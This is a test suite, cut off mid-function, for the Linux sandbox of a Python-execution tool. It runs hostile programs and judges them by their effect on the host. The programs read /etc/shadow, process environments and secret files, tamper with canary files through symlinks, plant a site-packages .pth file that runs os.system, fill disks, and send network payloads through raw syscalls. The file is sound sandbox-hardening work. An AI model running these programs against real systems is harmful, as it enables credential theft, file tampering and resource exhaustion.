"""Hostile programs against the python tool's sandbox (tools.run_python / tools.check_program).

Each program tries to do harm, and each test judges it by its EFFECT on the host, never only by what the
sandbox says: a canary file keeps its bytes, mtime and mode; a listener of the test's receives nothing; a
process of the test's stays alive; a secret never shows up in the output; the test process's memory, the
host's free disk and memory, its process table and the call's wall time stay within bounds. Where a program
reports its own success ("ESCAPED ..."), that is the attacker's report, and is checked as well.

Categories: reading, writing, network, processes, resources, forging a check_program pass, escape
attempts through raw syscalls (ctypes), and normal behaviour that must keep working.

Hostile code never contains a token it is looked for by: it carries the token reversed and rebuilds it,
so that a token seen on the host (a process name, a file) is the program's doing, not a copy of its source.
Programs that could do real harm if the sandbox were weak (a fork bomb, kill(-1, SIGKILL)) run only after
a probe shows that the call is confined (`contained` fixture); otherwise those tests fail without running.
"""
import ast
import marshal
import contextlib
import ctypes
import os
import platform
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path

import pytest

from fastchat_core import tools
from fastchat_core.tools import check_program, run_python

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the sandbox is Linux-only")

MAX_OUTPUT = getattr(tools, "MAX_OUTPUT", 4000)
MARGIN = 1.5          # seconds a call may take beyond its timeout
OUT_SLACK = 700       # characters beyond MAX_OUTPUT (a truncation marker and a tail of the output)
X86_64 = platform.machine() == "x86_64"
needs_x86_64 = pytest.mark.skipif(not X86_64, reason="raw syscall numbers are x86_64's")
MB = 1 << 20


# ---- calling the tool -----------------------------------------------------------------------------------

def call(code, timeout=1.0, memory_mb=256, margin=MARGIN, allow_syntax_error=False):
    """run_python with its wall time and output size checked."""
    t0 = time.monotonic()
    r = run_python(code, timeout=timeout, memory_mb=memory_mb)
    dt = time.monotonic() - t0
    assert dt <= timeout + margin, f"run_python took {dt:.2f} s with timeout={timeout}"
    assert isinstance(r.ok, bool) and isinstance(r.output, str)
    assert len(r.output) <= MAX_OUTPUT + OUT_SLACK, f"output of {len(r.output)} characters"
    if not allow_syntax_error:   # a hostile program that does not compile proves nothing
        assert "SyntaxError" not in r.output and "IndentationError" not in r.output, r.output
    return r


TESTS = '''
def check(candidate):
    assert candidate(0) == 0
    assert candidate(7) == 7
    assert candidate(1234) == 10
    assert candidate(99999) == 45
'''
ENTRY = "add_digits"
SOLUTION = '''
def add_digits(n):
    """Sum of the decimal digits of a non-negative integer."""
    return sum(int(c) for c in str(n))
'''
WRONG = '''
def add_digits(n):
    return n % 10   # right for 0 and 7 only
'''


def judge(program, timeout=1.5, tests=TESTS, entry_point=ENTRY, margin=MARGIN):
    """check_program with tests and entry point (the forging-proof form), its wall time checked."""
    t0 = time.monotonic()
    passed, message = check_program(program, timeout=timeout, tests=tests, entry_point=entry_point)
    dt = time.monotonic() - t0
    assert dt <= timeout + margin, f"check_program took {dt:.2f} s with timeout={timeout}"
    assert isinstance(passed, bool) and isinstance(message, str)
    assert "SyntaxError" not in message and "IndentationError" not in message, message
    return passed, message


TRY_EACH = '''
def try_each(attempts):
    """Run every (name, action) and print its result or its error's type: one refused step must not stop the rest."""
    for name, f in (attempts.items() if isinstance(attempts, dict) else attempts):
        try:
            print(name, f())
        except Exception as e:
            print(name, type(e).__name__)
'''


def fill(code, **values):
    """Dedent `code` and replace each @NAME@ by values[NAME] (already Python source)."""
    code = textwrap.dedent(code).replace("@TRY_EACH@", TRY_EACH)
    for name, value in values.items():
        code = code.replace(f"@{name}@", value)
    assert "@" not in code.replace("@property", ""), code
    return code


def hide(s):
    """Source for the string s that does not contain s."""
    return repr(s[::-1]) + "[::-1]"


def new_token():
    return "fc" + secrets.token_hex(6)   # 14 characters: fits a process name (15)


# Loads libc through ctypes; every program that uses raw syscalls starts with it.
CTYPES = '''
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sysc(nr, *args):
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    r = libc.syscall(ctypes.c_long(nr), *conv)
    return r, ctypes.get_errno()
def report(what, escaped, detail=""):
    print(("ESCAPED " if escaped else "blocked ") + what, detail, flush=True)
def name_me(name):   # shows on the host as the process's comm, if this process is visible there
    try:
        libc.prctl(15, name.encode(), 0, 0, 0)
    except Exception:
        pass
print("CTYPES_READY", flush=True)
'''


def require_ctypes(r):
    if "CTYPES_READY" not in r.output:
        pytest.skip(f"ctypes could not be loaded in the sandbox, the syscalls were not attempted: {r.output[-300:]}")


# ---- observing the host ---------------------------------------------------------------------------------

def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return None


class Proc:
    __slots__ = ("pid", "state", "ppid", "start", "comm", "cmdline")

    def __init__(self, pid, stat, cmdline):
        self.pid = pid
        self.comm = stat[stat.index(b"(") + 1:stat.rindex(b")")]
        rest = stat[stat.rindex(b")") + 2:].split()
        self.state, self.ppid, self.start = rest[0], int(rest[1]), int(rest[19])
        self.cmdline = cmdline or b""

    def has(self, token):
        t = token.encode()
        return t in self.comm or t in self.cmdline

    def __repr__(self):
        argv = self.cmdline.replace(b"\0", b" ")[:200].decode(errors="replace")
        return f"pid {self.pid} ({self.comm.decode(errors='replace')}, state {self.state.decode()}, " \
               f"ppid {self.ppid}): {argv}"


def processes():
    procs = {}
    for d in os.listdir("/proc"):
        if d.isdigit():
            stat = _read(f"/proc/{d}/stat")
            if stat:
                procs[int(d)] = Proc(int(d), stat, _read(f"/proc/{d}/cmdline"))
    return procs


def live_count():
    return sum(p.state not in (b"Z", b"X") for p in processes().values())


MY_PIDNS = os.readlink("/proc/self/ns/pid")


def uid_of(pid):
    for line in (_read(f"/proc/{pid}/status") or b"").splitlines():
        if line.startswith(b"Uid:"):
            return int(line.split()[1])
    return None


def pidns_of(pid):
    try:
        return os.readlink(f"/proc/{pid}/ns/pid")
    except OSError:
        return None


class Sampler:
    """Calls sample() from a background thread every `period` seconds inside a `with` block, and once at its end."""

    period = 0.02

    def __enter__(self):
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()
        return self

    def _loop(self):
        while not self._stop.wait(self.period):
            self.sample()

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join()
        self.sample()


class Lineage(Sampler):
    """What this test process started, sampled from a thread while a call runs: the pid namespaces and uids
    of its descendants (the sandbox's launcher, supervisor, workers). Only processes that share one of those,
    or carry the call's token, count as the call's: other tests' sandboxes on the same host are left alone."""

    def __init__(self):
        self.pidns, self.uids = set(), set()

    def sample(self):
        procs = processes()
        children = {}
        for p in procs.values():
            children.setdefault(p.ppid, []).append(p.pid)
        todo, seen = [os.getpid()], set()
        while todo:
            pid = todo.pop()
            for c in children.get(pid, ()):
                if c not in seen:
                    seen.add(c)
                    todo.append(c)
        for pid in seen:
            ns, uid = pidns_of(pid), uid_of(pid)
            if ns is not None and ns != MY_PIDNS:
                self.pidns.add(ns)
            if uid is not None and uid != os.getuid():
                self.uids.add(uid)


@contextlib.contextmanager
def no_survivors(token=None, grace=0.5):
    """After the block, no process it started may be left: none that carries `token`, none in a pid
    namespace or of a uid that a descendant of this process had during the block, no unreaped child of this
    process. Survivors are killed (they are the test's own doing) and reported."""
    before = {(p.pid, p.start) for p in processes().values()}
    with Lineage() as lineage:
        yield
    deadline = time.monotonic() + grace
    while True:
        found = []
        for p in processes().values():
            if (p.pid, p.start) in before or p.pid == os.getpid():
                continue
            why = []
            if p.state in (b"Z", b"X"):
                if p.ppid == os.getpid():
                    why.append("an unreaped child of the test process")
            else:
                if token and p.has(token):
                    why.append("carries the token")
                if pidns_of(p.pid) in lineage.pidns:
                    why.append("in the call's pid namespace")
                if uid_of(p.pid) in lineage.uids:
                    why.append(f"of the call's uid {uid_of(p.pid)}")
            if why:
                found.append(f"{p} [{', '.join(why)}]")
        if not found or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    for line in found:
        with contextlib.suppress(Exception):
            os.kill(int(line.split()[1]), signal.SIGKILL)
    assert not found, "processes survived the call:\n" + "\n".join(found)


def meminfo(key="MemAvailable"):
    for line in open("/proc/meminfo"):
        if line.startswith(key + ":"):
            return int(line.split()[1]) * 1024
    raise KeyError(key)


def status_kb(key):
    for line in open("/proc/self/status"):
        if line.startswith(key + ":"):
            return int(line.split()[1])
    raise KeyError(key)


class Monitor(Sampler):
    """Samples the host from a thread while a call runs: processes carrying a token, the tracer of a pid,
    the lowest MemAvailable, the lowest free space of some file systems, the most processes."""

    def __init__(self, token=None, traced=None, disks=(), memory=False, count=False, period=0.03):
        self.token, self.traced, self.disks, self.memory, self.count = token, traced, disks, memory, count
        self.period = period
        self.seen, self.tracers = {}, set()
        self.mem_before = self.mem_low = meminfo() if memory else None
        self.disk_before = {d: shutil.disk_usage(d).free for d in disks}
        self.disk_low = dict(self.disk_before)
        self.count_before = self.count_high = live_count() if count else None

    def sample(self):
        if self.token or self.count:
            procs = processes()
            if self.token:
                self.seen.update({p.pid: repr(p) for p in procs.values() if p.has(self.token)})
            if self.count:
                self.count_high = max(self.count_high, sum(p.state not in (b"Z", b"X") for p in procs.values()))
        if self.traced:
            for line in (_read(f"/proc/{self.traced}/status") or b"").splitlines():
                if line.startswith(b"TracerPid:") and int(line.split()[1]):
                    self.tracers.add(int(line.split()[1]))
        if self.memory:
            self.mem_low = min(self.mem_low, meminfo())
        for d in self.disks:
            self.disk_low[d] = min(self.disk_low[d], shutil.disk_usage(d).free)

    @property
    def mem_drop(self):
        return self.mem_before - self.mem_low

    def disk_drop(self, d):
        return self.disk_before[d] - self.disk_low[d]


@contextlib.contextmanager
def rss_growth_below(mb=50):
    """The test process's peak RSS during the block (VmHWM, reset first) stays within `mb` of its RSS before."""
    reset = True
    try:
        with open("/proc/self/clear_refs", "w") as f:
            f.write("5")
    except OSError:
        reset = False
    before = status_kb("VmRSS")
    peak = [before]
    stop = threading.Event()

    def sample():
        while not stop.wait(0.01):
            peak[0] = max(peak[0], status_kb("VmRSS"))

    sampler = None if reset else threading.Thread(target=sample, daemon=True)
    if sampler:
        sampler.start()
    yield
    if sampler:
        stop.set()
        sampler.join()
    top = status_kb("VmHWM") if reset else max(peak[0], status_kb("VmRSS"))
    assert top - before < mb * 1024, f"the caller's RSS grew by {(top - before) / 1024:.0f} MB during the call"


# ---- fixtures -----------------------------------------------------------------------------------------

@pytest.fixture(scope="module", autouse=True)
def sandbox_available():
    r = run_python("print(1)", timeout=5)
    if not r.ok and "unavailable" in r.output.lower():
        pytest.skip(f"the sandbox reports isolation unavailable here: {r.output[:300]}")
    assert r == (True, "1"), r


@pytest.fixture(scope="module")
def contained():
    """Programs that would harm the host if they got out run only once a probe shows that the call is
    confined: it cannot signal this process, its parent is not this process, it is not root, and a finite
    process limit holds."""
    probe = fill('''
        import os, resource
        try:
            os.kill(@PID@, 0)
            reach = "signals-host"
        except OSError:
            reach = "isolated"
        print(os.getuid(), os.getppid(), resource.getrlimit(resource.RLIMIT_NPROC)[0], reach)
    ''', PID=str(os.getpid()))
    r = run_python(probe, timeout=5)
    try:
        uid, ppid, nproc, reach = r.output.split()
        uid, ppid, nproc = int(uid), int(ppid), int(nproc)
    except ValueError:
        pytest.fail(f"refusing to run a dangerous program: the confinement probe gave {r!r}")
    problems = [what for what, bad in (
        (f"it can signal the test process ({os.getpid()})", reach != "isolated"),
        ("its parent is the test process", ppid == os.getpid()),
        ("it runs as root", uid == 0 and os.geteuid() == 0),   # not root: uid 0 of a user namespace is ours
        (f"its process limit is {nproc}", nproc < 0 or nproc > 4096)) if bad]
    if problems:
        pytest.fail("refusing to run a dangerous program, the sandbox is not confined: " + "; ".join(problems))


CANARY_TIME = 1_000_000_000 * 10**9   # 2001-09-09: an mtime no write by the code can keep


@pytest.fixture
def canary(tmp_path):
    """A file the code must not change: its directory's entries, bytes, mtime, mode and link count."""
    d = tmp_path / "canary_dir"
    d.mkdir()
    p = d / "canary.txt"
    p.write_bytes(b"canary " + secrets.token_hex(16).encode())
    os.chmod(p, 0o644)
    os.utime(p, ns=(CANARY_TIME, CANARY_TIME))
    return p


def assert_canary_survives(canary, program):
    """Run the program (@P@: the canary's path) and check the canary file is exactly as before."""
    before = state_of(canary)
    call(fill(program, P=repr(str(canary))))
    assert_unchanged(canary, before)


def assert_unchanged(p, before):
    assert state_of(p) == before, f"{p} changed: {before} -> {state_of(p)}"


def state_of(p):
    p = Path(p)
    st = os.lstat(p) if os.path.lexists(p) else None
    return {"entries": sorted(os.listdir(p.parent)),
            "bytes": p.read_bytes() if st else None,
            "meta": (st.st_mtime_ns, st.st_mode, st.st_nlink, st.st_uid, st.st_ino) if st else None}


@pytest.fixture
def secret_file(tmp_path):
    secret = "S3CRET-" + secrets.token_hex(12)
    p = tmp_path / "secret.txt"
    p.write_text(secret + "\n")
    os.chmod(p, 0o600)
    return p, secret


@pytest.fixture
def env_secret(monkeypatch):
    secret = "ENVSECRET-" + secrets.token_hex(12)
    monkeypatch.setenv("FASTCHAT_TEST_SECRET", secret)
    return secret


VICTIM = r'''
import signal, sys, time
marker = sys.argv[1]
def hit(sig, frame):
    with open(marker, "a") as f:
        f.write(f"{sig}\n")
for s in (signal.SIGWINCH, signal.SIGURG, signal.SIGCONT, signal.SIGUSR1, signal.SIGUSR2, signal.SIGTERM,
          signal.SIGINT, signal.SIGHUP, signal.SIGCHLD, signal.SIGALRM, signal.SIGPIPE):
    signal.signal(s, hit)
open(marker + ".ready", "w").close()
end = time.time() + 60
while time.time() < end:
    time.sleep(0.05)
'''


@pytest.fixture
def victim(tmp_path):
    """A process of the test's, in its own session: it logs every catchable signal it gets to a file."""
    marker = tmp_path / "victim_signals"
    token = new_token()
    proc = subprocess.Popen([sys.executable, "-c", VICTIM, str(marker), token], start_new_session=True)
    deadline = time.monotonic() + 10
    while not Path(str(marker) + ".ready").exists():
        assert proc.poll() is None and time.monotonic() < deadline, "the victim process did not start"
        time.sleep(0.01)
    yield proc, marker, token
    proc.kill()
    proc.wait()


def assert_victim_untouched(victim):
    proc, marker, _ = victim
    assert proc.poll() is None, f"the test's process was killed (status {proc.returncode})"
    state = Proc(proc.pid, _read(f"/proc/{proc.pid}/stat"), b"").state
    assert state not in (b"T", b"t"), f"the test's process was stopped (state {state})"
    got = marker.read_text() if marker.exists() else ""
    assert got == "", f"the test's process received signals: {got.split()}"


# ================================ reading =================================================================

def test_read_etc_passwd_and_shadow():
    host = [line for f in ("/etc/passwd", "/etc/shadow", "/etc/group")
            for line in (_read(f) or b"").decode(errors="replace").splitlines() if line.count(":") >= 2]
    assert host
    code = '''
        import os
        for p in ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/hostname", "/etc/hosts", "/../../etc/passwd",
                  "/proc/1/root/etc/passwd", "/proc/self/root/etc/passwd", "/tmp/../etc/passwd", "etc/passwd"]:
            try:
                print(open(p).read())
            except Exception as e:
                print(type(e).__name__, p)
        import pwd
        try:
            print(pwd.getpwall())
        except Exception as e:
            print(type(e).__name__)
    '''
    r = call(fill(code))
    leaked = [line for line in host if line in r.output]
    assert not leaked, f"host account lines visible: {leaked[:3]}"


def test_read_private_secret_file(secret_file):
    path, secret = secret_file
    code = fill('''
        import glob, os
        p = @PATH@
        for attempt in (lambda: open(p).read(), lambda: os.read(os.open(p, os.O_RDONLY), 100),
                        lambda: open(os.path.relpath(p, os.getcwd())).read(),
                        lambda: [open(f).read() for f in glob.glob(os.path.dirname(p) + "/*")],
                        lambda: [open(f).read() for f in glob.glob("/tmp/**/secret.txt", recursive=True)]):
            try:
                print(attempt())
            except Exception as e:
                print(type(e).__name__, e)
    ''', PATH=repr(str(path)))
    r = call(code)
    assert secret not in r.output


def test_read_parent_environment(env_secret):
    code = fill('''
        import os
        print(dict(os.environ))
        paths = ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/@PID@/environ"]
        try:
            paths += [f"/proc/{d}/environ" for d in os.listdir("/proc") if d.isdigit()]
        except OSError as e:
            print("no /proc:", e)
        for p in paths:
            try:
                print(p, open(p, "rb").read())
            except Exception as e:
                print(type(e).__name__, p)
        try:
            import ctypes
            environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
            i = 0
            while environ[i]:
                print("environ:", environ[i]); i += 1
        except Exception as e:
            print(type(e).__name__)
    ''', PID=str(os.getpid()))
    r = call(code)
    assert env_secret not in r.output
    assert "FASTCHAT_TEST_SECRET" not in r.output


def test_read_inherited_file_descriptors(secret_file):
    path, secret = secret_file
    fd = os.open(path, os.O_RDONLY)   # left inheritable, as a careless caller might
    os.set_inheritable(fd, True)
    r_pipe, w_pipe = os.pipe()
    os.set_inheritable(r_pipe, True)
    os.write(w_pipe, secret.encode())
    try:
        code = '''
            import os
            for fd in range(1024):
                try:
                    os.lseek(fd, 0, 0)
                except OSError:
                    pass
                try:
                    os.set_blocking(fd, False)
                    data = os.read(fd, 200)
                    if data:
                        print(fd, data)
                except OSError:
                    pass
        '''
        r = call(fill(code))
        assert secret not in r.output
        assert os.read(r_pipe, 100) == secret.encode(), "the code drained a pipe of the caller's"
    finally:
        for f in (fd, r_pipe, w_pipe):
            os.close(f)


def test_read_project_source():
    import fastchat_core
    pkg = Path(fastchat_core.__file__).resolve().parent
    markers = [(pkg / "__init__.py").read_text().splitlines()[0].strip(),
               "Shared test set-up.",   # tests/conftest.py's docstring
               (pkg / "tools.py").read_text().splitlines()[0].strip()]
    code = fill('''
        import os
        for p in [@INIT@, @TOOLS@, @CONFTEST@, @ROOT@ + "/README.md", @ROOT@ + "/.git/config"]:
            try:
                print(open(p).read()[:2000])
            except Exception as e:
                print(type(e).__name__, p)
        try:
            import fastchat_core, inspect
            print(inspect.getsource(fastchat_core))
        except Exception as e:
            print(type(e).__name__, e)
        for root in ("/work", os.path.dirname(@ROOT@)):
            try:
                for dirpath, dirs, files in os.walk(root):
                    for f in files:
                        if f.endswith(".py"):
                            print(open(os.path.join(dirpath, f)).read()[:300])
            except Exception as e:
                print(type(e).__name__)
    ''', INIT=repr(str(pkg / "__init__.py")), TOOLS=repr(str(pkg / "tools.py")),
        CONFTEST=repr(str(pkg.parent / "tests" / "conftest.py")), ROOT=repr(str(pkg.parent)))
    r = call(code)
    for m in markers:
        assert m not in r.output, f"project source visible: {m!r}"


def test_listing_root_shows_no_host_only_entries():
    import sysconfig
    host = set(os.listdir("/"))
    needed = {"usr", "lib", "lib32", "lib64", "libx32", "bin", "sbin", "tmp"}
    for p in (sys.prefix, sys.base_prefix, sys.exec_prefix, sysconfig.get_paths()["stdlib"]):
        needed.add(Path(p).resolve().parts[1])   # the python installation's top-level directory
    host_only = sorted(host - needed)
    assert host_only
    code = '''
        import os
        for d in ("/", "/..", "/tmp/../..", "."):
            try:
                print(d, sorted(os.listdir(d)))
            except Exception as e:
                print(type(e).__name__, d)
    '''
    r = call(fill(code))
    listed = set()
    for line in r.output.splitlines():
        if "[" in line:
            listed |= set(ast.literal_eval(line[line.index("["):]))
    leaked = sorted(set(host_only) & listed)
    assert not leaked, f"host-only top-level entries visible: {leaked}"


@pytest.mark.parametrize("home", ["/root", "/home"])
def test_listing_home_directories(home):
    if not os.path.isdir(home) or not os.access(home, os.W_OK):
        pytest.skip(f"cannot plant a canary in {home}")
    token = new_token()
    secret = "HOMESECRET-" + secrets.token_hex(8)
    planted = Path(home) / f"fastchat-canary-{token}"
    planted.mkdir()
    try:
        (planted / "secret").write_text(secret)
        os.chmod(planted / "secret", 0o600)
        code = fill('''
            import os
            HOME = @HOME@
            try:
                print(sorted(os.listdir(HOME)))
            except Exception as e:
                print(type(e).__name__, e)
            try:
                for dirpath, dirs, files in os.walk(HOME):
                    if dirpath.count("/") > 4:
                        dirs[:] = []
                    print(dirpath, files)
                    for f in files:
                        if "canary" in dirpath + f:
                            print(open(os.path.join(dirpath, f)).read())
            except Exception as e:
                print(type(e).__name__, e)
        ''', HOME=repr(home))
        r = call(code)
        assert token not in r.output, f"{planted} is visible"
        assert secret not in r.output
    finally:
        shutil.rmtree(planted)


def test_search_whole_filesystem_for_planted_secrets(tmp_path):
    """The code walks everything it can see, reading small files, looking for the secret planted in
    several host places."""
    secret = "WALKSECRET-" + secrets.token_hex(10)
    places = [tmp_path / "planted.txt", Path("/var/tmp") / f"fastchat-planted-{secrets.token_hex(4)}"]
    if os.path.isdir("/dev/shm"):
        places.append(Path("/dev/shm") / f"fastchat-planted-{secrets.token_hex(4)}")
    made = []
    for p in places:
        with contextlib.suppress(OSError):
            p.write_text(secret)
            made.append(p)
    try:
        code = fill('''
            import os, time
            NEEDLE = @NEEDLE@.encode()
            end = time.time() + 1.2
            n = 0
            for dirpath, dirs, files in os.walk("/", onerror=lambda e: None):
                dirs[:] = [d for d in dirs if d not in ("site-packages",)]
                if time.time() > end:
                    break
                for f in files:
                    p = os.path.join(dirpath, f)
                    try:
                        if os.path.getsize(p) < 100000:
                            n += 1
                            if NEEDLE in open(p, "rb").read():
                                print("FOUND", p, open(p).read())
                    except Exception:
                        pass
            print("files read", n)
        ''', NEEDLE=hide(secret[:-1]))   # the needle: the secret without its last character
        r = call(code, timeout=2.0)
        assert secret[:-1] not in r.output
    finally:
        for p in made:
            p.unlink()


# ================================ writing =================================================================

def test_write_create_truncate_canary(canary):
    assert_canary_survives(canary, '''
        @TRY_EACH@
        import os, pathlib, posix
        P = @P@
        attempts = {
            "open w": lambda: open(P, "w").write("pwned"),
            "open a": lambda: open(P, "a").write("pwned"),
            "open r+": lambda: open(P, "r+").write("pwned"),
            "pathlib": lambda: pathlib.Path(P).write_text("pwned"),
            "os.truncate": lambda: os.truncate(P, 0),
            "posix.open": lambda: posix.write(posix.open(P, posix.O_WRONLY | posix.O_TRUNC), b"pwned"),
            "new file": lambda: open(os.path.dirname(P) + "/new.txt", "w").write("pwned"),
            "new dir": lambda: os.mkdir(os.path.dirname(P) + "/newdir"),
        }
        try:
            import ctypes
            libc = ctypes.CDLL(None)
            attempts["libc truncate"] = lambda: libc.truncate(P.encode(), 0)
            attempts["libc creat"] = lambda: libc.creat((os.path.dirname(P) + "/libc.txt").encode(), 0o644)
        except Exception:
            pass
        try_each(attempts)
    ''')


def test_rename_delete_canary(canary):
    assert_canary_survives(canary, '''
        @TRY_EACH@
        import os, posix, shutil
        P = @P@
        try_each({"rename": lambda: os.rename(P, P + ".moved"), "replace": lambda: os.replace(P, "/tmp/x"),
                  "unlink": lambda: os.unlink(P), "posix.unlink": lambda: posix.unlink(P),
                  "rmtree": lambda: shutil.rmtree(os.path.dirname(P)),
                  "rmdir": lambda: os.rmdir(os.path.dirname(P))})
    ''')


def test_chmod_chown_utime_canary(canary):
    assert_canary_survives(canary, '''
        @TRY_EACH@
        import os, posix
        P = @P@
        try_each({"chmod": lambda: os.chmod(P, 0o777), "posix.chmod": lambda: posix.chmod(P, 0o4777),
                  "chown": lambda: os.chown(P, 65534, 65534), "utime": lambda: os.utime(P, (0, 0)),
                  "utime now": lambda: os.utime(P)})
    ''')


def test_symlink_and_hardlink_tricks(canary):
    assert_canary_survives(canary, '''
        @TRY_EACH@
        import os
        P = @P@
        D = os.path.dirname(P)
        steps = [
            ("symlink to canary", lambda: os.symlink(P, "/tmp/s")),
            ("write via symlink", lambda: open("/tmp/s", "w").write("pwned")),
            ("hardlink to canary", lambda: os.link(P, "/tmp/h")),
            ("write via hardlink", lambda: open("/tmp/h", "w").write("pwned")),
            ("symlink to /", lambda: os.symlink("/", "/tmp/r")),
            ("write via / link", lambda: open("/tmp/r" + P, "w").write("pwned")),
            ("symlink into canary dir", lambda: os.symlink("/etc/passwd", D + "/evil")),
            ("symlink dir", lambda: os.symlink(D, "/tmp/d")),
            ("write via dir link", lambda: open("/tmp/d/canary.txt", "w").write("pwned")),
            ("link cwd", lambda: os.symlink(P, "canary_link")),
        ]
        try_each(steps)
    ''')


def test_write_into_stdlib_and_site_packages():
    import site
    import sysconfig
    token = new_token()
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    sites = [Path(p) for p in site.getsitepackages() if os.path.isdir(p)]
    targets = [stdlib / f"zz_{token}.py", stdlib / f"zz_{token}_dir"] + [s / f"zz_{token}.pth" for s in sites]
    victim = stdlib / "this.py"
    victim_before = os.stat(victim)
    code = fill('''
        import os
        TOKEN = @TOKEN@
        STDLIB, SITES, VICTIM = @STDLIB@, @SITES@, @VICTIM@
        steps = [("module", lambda: open(f"{STDLIB}/zz_{TOKEN}.py", "w").write("import os")),
                 ("dir", lambda: os.mkdir(f"{STDLIB}/zz_{TOKEN}_dir")),
                 ("chmod", lambda: os.chmod(VICTIM, 0o777)),
                 ("utime", lambda: os.utime(VICTIM, (0, 0)))]
        steps += [("pth", lambda s=s: open(f"{s}/zz_{TOKEN}.pth", "w").write("import os; os.system('id')"))
                  for s in SITES]
        for name, f in steps:
            try:
                print(name, f())
            except Exception as e:
                print(name, type(e).__name__, e)
    ''', TOKEN=hide(token), STDLIB=repr(str(stdlib)), SITES=repr([str(s) for s in sites]), VICTIM=repr(str(victim)))
    try:
        call(code)
        created = [str(t) for t in targets if t.exists()]
        assert not created, f"created in the host's python installation: {created}"
        after = os.stat(victim)
        assert (after.st_mode, after.st_mtime_ns) == (victim_before.st_mode, victim_before.st_mtime_ns)
    finally:
        for t in targets:
            if t.is_dir():
                t.rmdir()
            elif t.exists():
                t.unlink()
        os.chmod(victim, victim_before.st_mode & 0o7777)
        os.utime(victim, ns=(victim_before.st_atime_ns, victim_before.st_mtime_ns))


def test_fill_disk_1gb(tmp_path):
    """1 GB written into /tmp in many files: the call returns, the host's disks and memory do not feel it."""
    disks = sorted({"/", str(tmp_path), tempfile.gettempdir()} | ({"/dev/shm"} if os.path.isdir("/dev/shm") else set()))
    code = '''
        import os, time
        chunk = b"x" * (4 << 20)
        total, i = 0, 0
        end = time.time() + 1.5
        while total < (1 << 30) and time.time() < end:
            try:
                with open(f"/tmp/fill{i}", "wb") as f:
                    for _ in range(8):
                        f.write(chunk)
                        total += len(chunk)
            except OSError as e:
                print("stopped:", e)
                break
            i += 1
        print("written MB", total >> 20, flush=True)
        time.sleep(30)
    '''
    with Monitor(disks=disks, memory=True) as m:
        call(fill(code), timeout=2.0)
    for d in disks:
        assert m.disk_drop(d) < 100 * MB, f"{d} lost {m.disk_drop(d) / MB:.0f} MB of free space during the call"
        assert shutil.disk_usage(d).free > m.disk_before[d] - 100 * MB
    assert m.mem_drop < 400 * MB, f"host MemAvailable dropped by {m.mem_drop / MB:.0f} MB (/tmp not small?)"


def test_inode_exhaustion(tmp_path):
    code = '''
        import os, time
        n = 0
        end = time.time() + 1.5
        try:
            while time.time() < end:
                os.mkdir(f"/tmp/d{n}")
                open(f"/tmp/d{n}/f", "w").close()
                n += 1
        except OSError as e:
            print("stopped:", e)
        print("created", n, flush=True)
        time.sleep(30)
    '''
    fs = ["/", str(tmp_path)]
    free = {d: os.statvfs(d).f_ffree for d in fs}
    with Monitor(memory=True) as m:
        call(fill(code), timeout=2.0)
    for d in fs:
        assert os.statvfs(d).f_ffree > free[d] - 1000, f"{d} lost inodes"
    assert m.mem_drop < 400 * MB, f"host MemAvailable dropped by {m.mem_drop / MB:.0f} MB"


# ================================ network ================================================================

NET_ATTACK = CTYPES.replace('print("CTYPES_READY", flush=True)', "") + r'''
import struct, time
FAM, TYPE, ADDR, PAYLOAD = @FAM@, @TYPE@, @ADDR@, @PAYLOAD@

def sockaddr():
    if FAM == 2:
        return struct.pack("<H", 2) + struct.pack(">H", ADDR[1]) + bytes(int(x) for x in ADDR[0].split(".")) + bytes(8)
    if FAM == 10:
        return struct.pack("<H", 10) + struct.pack(">H", ADDR[1]) + bytes(4) + bytes(15) + b"\1" + bytes(4)
    path = ADDR.encode()
    return struct.pack("<H", 1) + path + (b"" if path[:1] == b"\0" else b"\0")

def use(s):
    s.settimeout(0.3)
    if TYPE == 2:
        s.sendto(PAYLOAD, ADDR)
    else:
        s.connect(ADDR)
        s.sendall(PAYLOAD)
    time.sleep(0.05)
    s.close()

def socket_module():
    import socket
    use(socket.socket(FAM, TYPE))

def real_socket_class():
    import _socket
    cls = _socket.socket
    while not (cls.__module__ == "_socket" and cls.__name__ == "socket"):
        cls = cls.__bases__[0]
    use(cls(FAM, TYPE))

def libc_calls():
    fd = libc.socket(FAM, TYPE, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket")
    sa = sockaddr()
    if TYPE == 2:
        r = libc.sendto(fd, PAYLOAD, len(PAYLOAD), 0, sa, len(sa))
    else:
        r = libc.connect(fd, sa, len(sa))
        if r == 0:
            r = libc.send(fd, PAYLOAD, len(PAYLOAD), 0)
    if r < 0:
        raise OSError(ctypes.get_errno(), "connect/send")

def raw_syscalls():
    fd, e = sysc(41, FAM, TYPE, 0)
    if fd < 0:
        raise OSError(e, "socket")
    sa = sockaddr()
    if TYPE == 2:
        r, e = sysc(44, fd, PAYLOAD, len(PAYLOAD), 0, sa, len(sa))
    else:
        r, e = sysc(42, fd, sa, len(sa))
        if r == 0:
            r, e = sysc(44, fd, PAYLOAD, len(PAYLOAD), 0, 0, 0)
    if r < 0:
        raise OSError(e, "connect/send")

for method in (socket_module, real_socket_class, libc_calls, raw_syscalls):
    try:
        method()
        print("SENT", method.__name__, flush=True)
    except BaseException as e:
        print("blocked", method.__name__, type(e).__name__, e, flush=True)
'''


def net_attack(fam, typ, addr, payload):
    return fill(NET_ATTACK, FAM=str(int(fam)), TYPE=str(int(typ)), ADDR=repr(addr), PAYLOAD=repr(payload))


def drain_stream(srv):
    got = []
    srv.setblocking(False)
    while True:
        try:
            conn, addr = srv.accept()
        except (BlockingIOError, InterruptedError):
            return got
        conn.settimeout(0.3)
        try:
            data = conn.recv(4096)
        except OSError as e:
            data = repr(e).encode()
